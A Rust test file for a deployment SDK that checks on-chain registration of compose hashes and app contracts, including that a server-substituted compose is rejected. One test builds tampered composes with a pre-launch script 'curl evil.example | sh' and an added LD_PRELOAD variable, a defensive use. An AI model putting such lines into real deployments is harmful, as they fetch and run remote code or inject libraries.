//! From "needs an approval" to accepted.

use casemate_chain::Action;
use casemate_chain::dev::ACCOUNTS;
use casemate_sdk::chain::{Error, NewApp};
use casemate_sdk::env::EnvVar;
use casemate_sdk::types::compose::{ComposeDoc, Flag};
use casemate_sdk::{Ask, PatchOutcome};
use serde_json::json;

use super::{CHAIN, DEVICE, NEXT, OTHER_DEVICE, OWNER, STRANGER, World, at, on_chain, wallet};
use crate::support::{Reply, Server, accepted};

/// A 465 about this app, for [`NEXT`] on this device.
fn asks(world: &World, device: &str) -> Reply {
    let kms = json!({
        "id": "kms_base", "slug": "base", "url": "https://kms.example.org", "version": "v1", "chain_id": CHAIN,
        "kms_contract_address": format!("0x{}", world.contracts.kms), "gateway_app_id": null,
        "chain": { "rpcUrls": { "default": { "http": [world.chain().url()] } } },
    });
    let details = json!([
        { "field": "compose_hash", "value": NEXT }, { "field": "app_id", "value": world.app },
        { "field": "device_id", "value": device }, { "field": "kms_info", "value": kms },
    ]);
    Reply::json(465, json!({ "error_code": "ERR-01-005", "message": "Register first", "details": details }))
}

fn not_yet() -> Reply {
    Reply::json(467, json!({ "error_code": "ERR-01-007", "message": "not found yet" }))
}

async fn ask(server: &Server) -> Ask {
    match server.client().cvm("web-1").patch().compose("services: {}\n").send().await.unwrap() {
        PatchOutcome::NeedsApproval(ask) => ask,
        PatchOutcome::Accepted(op) => panic!("accepted: {op:?}"),
    }
}

#[tokio::test]
async fn an_owner_registers_and_confirms_in_one_call() {
    let world = World::start().await;
    let server = Server::casemate([asks(&world, &OTHER_DEVICE.to_string()), not_yet(), accepted()]).await;
    let ask = ask(&server).await;
    let network = at(CHAIN, &world.chain().url());
    ask.register_with(&wallet(OWNER)).network(network.clone()).send().await.unwrap();
    assert!(network.check_on_chain_prerequisites(world.app, OTHER_DEVICE, NEXT).await.unwrap().all());
    let asked = server.asked();
    assert_eq!(asked.len(), 3, "the server's node may be behind: it is told again");
    assert_eq!(asked[1].header("x-compose-hash"), Some(NEXT.to_string().as_str()));
    let tx = asked[1].header("x-transaction-hash").unwrap();
    assert_eq!(asked[2].header("x-transaction-hash"), Some(tx));
    let receipt = world.call("eth_getTransactionReceipt", json!([tx])).await;
    assert_eq!(receipt["to"], format!("0x{}", world.app));
}

#[tokio::test]
async fn what_is_allowed_already_is_not_registered_again() {
    let world = World::start().await;
    world.act(Action::AddComposeHash(NEXT)).await;
    let before = world.sent(ACCOUNTS[OWNER].address).await;
    let server = Server::casemate([asks(&world, &DEVICE.to_string()), accepted()]).await;
    let ask = ask(&server).await;
    // The node is the one that the server names.
    let registered = ask.register_with(&wallet(STRANGER)).register().await.unwrap();
    assert_eq!((&registered.device, &registered.compose_hash), (&None, &None));
    ask.confirm(registered.proof()).await.unwrap();
    assert_eq!(server.asked()[1].header("x-transaction-hash"), Some("already-registered"));
    assert_eq!(world.sent(ACCOUNTS[OWNER].address).await, before);
}

#[tokio::test]
async fn a_stranger_registers_nothing_and_confirms_nothing() {
    let world = World::start().await;
    for device in [DEVICE.to_string(), OTHER_DEVICE.to_string(), String::new()] {
        let server = Server::casemate([asks(&world, &device)]).await;
        let ask = ask(&server).await;
        let error = on_chain(ask.register_with(&wallet(STRANGER)).send().await);
        assert!(matches!(error, Error::NotOwner { .. }), "{error:?}");
        assert_eq!(server.asked().len(), 1);
    }
    assert_eq!(world.sent(ACCOUNTS[STRANGER].address).await, 0);
}

#[tokio::test]
async fn a_new_app_gets_its_contract_along_the_way() {
    let world = World::start().await;
    let deployed = |server: &Server| server.client().deploy("web-1", "services: {}\n").kms_id("base");
    let hash = deployed(&Server::casemate([]).await).normalised().unwrap().hash;
    let provision = json!({
        "app_id": null, "app_env_encrypt_pubkey": null, "compose_hash": hash, "device_id": DEVICE, "kms_id": "base",
        "kms_info": {
            "id": "kms_base", "slug": "base", "url": "", "version": "v1", "chain_id": CHAIN,
            "kms_contract_address": format!("0x{}", world.contracts.kms), "gateway_app_id": null,
        },
    });
    let made = json!({
        "id": 1, "name": "web-1", "status": "creating", "vm_uuid": "5f3c1a9b-7d5e-4c2a-8b6d-0e1f2a3b4c5d", "vcpu": 1,
        "memory": 2048, "disk_size": 20, "created_at": "2026-02-03T10:00:00.000000Z",
    });
    let server =
        Server::casemate([Reply::json(200, provision.clone()), not_yet(), Reply::json(200, made)]).await;
    let network = at(CHAIN, &world.chain().url());
    deployed(&server).wallet_on(&wallet(STRANGER), network.clone()).send().await.unwrap();
    let asked = server.asked();
    assert_eq!(asked[0].json()["kms_id"], "base");
    assert_eq!(asked.len(), 3, "the server's node may be behind: it is told again");
    let body = asked[2].json();
    assert_eq!(body, asked[1].json());
    let receipt = world.call("eth_getTransactionReceipt", json!([body["transaction_hash"]])).await;
    assert_eq!(receipt["to"], format!("0x{}", world.contracts.kms), "the transaction that made the contract");
    assert_eq!(body["contract_address"], body["app_id"]);
    assert_eq!(body["deployer_address"], format!("0x{}", ACCOUNTS[STRANGER].address));
    let app = body["app_id"].as_str().unwrap();
    assert!(network.check_on_chain_prerequisites(app, DEVICE, hash).await.unwrap().all());
    assert_eq!(
        network.get_allowed_devices(app, []).await.unwrap().owner,
        ACCOUNTS[STRANGER].address,
        "who signed owns it"
    );

    let server = Server::casemate([Reply::json(200, provision)]).await;
    let error = deployed(&server).send().await.unwrap_err();
    assert_eq!(error.fields()[0].field(), "wallet");
}

#[tokio::test]
async fn no_contract_is_made_for_what_nobody_wrote() {
    let world = World::start().await;
    let (network, signer) = (at(CHAIN, &world.chain().url()), wallet(STRANGER));
    let deployed = |server: &Server| {
        let deploy = server.client().deploy("web-1", "services: {}\n").kms_id("base");
        deploy.env([EnvVar::new("TOKEN", "s3cret")]).wallet_on(&signer, network.clone())
    };
    let given = deployed(&Server::casemate([]).await).normalised().unwrap();
    let document = ComposeDoc::parse(&given.text).unwrap();
    assert_eq!(document.allowed_envs(), ["TOKEN"]);
    let mut with_script = document.clone();
    with_script.set_pre_launch_script("curl evil.example | sh\n");
    let mut with_flag = document.clone();
    with_flag.set_flag(Flag::PublicLogs, false);
    let mut with_env = document;
    with_env.set_allowed_envs(["TOKEN", "LD_PRELOAD"]);
    for other in [with_script, with_flag, with_env] {
        let made = other.normalise().hash;
        let provision = json!({
            "app_id": null, "compose_hash": made, "device_id": DEVICE, "kms_id": "base",
            "kms_info": {
                "id": "kms_base", "slug": "base", "url": "", "version": "v1", "chain_id": CHAIN,
                "kms_contract_address": format!("0x{}", world.contracts.kms), "gateway_app_id": null,
            },
        });
        let server = Server::casemate([Reply::json(200, provision)]).await;
        let error = on_chain(deployed(&server).send().await);
        let Error::OtherComposeHash { given: mine, asked } = &error else { panic!("{error:?}") };
        assert_eq!((*mine, *asked), (given.hash, made));
        let text = error.to_string();
        assert!(text.contains(&made.to_string()) && text.contains(&given.hash.to_string()), "{text}");
        assert_eq!(server.asked().len(), 1);
    }
    assert_eq!(world.sent(signer.address()).await, 0);
}

#[test]
fn every_future_on_a_chain_is_send() {
    fn is_send<T: Send>(_: T) {}
    let network = at(CHAIN, "http://127.0.0.1:1");
    let owner = wallet(OWNER);
    is_send(network.add_compose_hash(&owner, "", "").send());
    is_send(network.deploy_app_auth(&owner, "", NewApp::default()).send());
    is_send(network.check_on_chain_prerequisites("", "", ""));
    is_send(network.get_allowed_devices("", []));
    is_send(async move {
        let client = casemate_sdk::Client::anonymous("http://127.0.0.1:1/api/v1").unwrap();
        if let Ok(PatchOutcome::NeedsApproval(ask)) = client.cvm("web-1").patch().send().await {
            let _ = ask.register_with(&owner).send().await;
        }
    });
}
